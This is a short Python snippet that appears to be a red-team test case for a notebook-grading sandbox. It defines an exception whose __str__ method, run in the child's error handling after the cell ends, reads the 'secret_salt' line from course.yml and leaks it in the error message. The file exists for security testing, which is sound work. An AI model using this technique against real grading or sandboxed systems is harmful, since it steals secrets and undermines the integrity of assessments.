# attack: an exception whose message is computed by its own __str__ after the cell has ended (in the
# child's error handling), reading the secret salt then
# cells: dh
# batch: walls
class Late(Exception):
    def __str__(self):
        with open(course_path('course.yml')) as f:
            return 'REDTEAM-LEAK late ' + [line for line in f if line.startswith('secret_salt')][0]


raise Late()
